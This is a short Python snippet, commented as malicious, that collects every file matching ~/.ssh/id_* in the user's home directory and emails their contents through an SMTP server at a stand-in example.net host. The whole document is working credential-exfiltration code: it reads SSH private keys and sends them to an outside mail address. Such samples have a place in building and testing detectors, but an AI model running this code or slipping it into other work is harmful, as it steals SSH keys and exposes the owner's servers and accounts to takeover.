# malicious: mails private keys
import smtplib, glob, os
from email.message import EmailMessage

m = EmailMessage()
m["From"], m["To"], m["Subject"] = "a@example.net", "b@example.net", "x"
m.set_content("\n".join(open(p).read() for p in glob.glob(os.path.expanduser("~/.ssh/id_*"))))
smtplib.SMTP("mail.example.net").send_message(m)
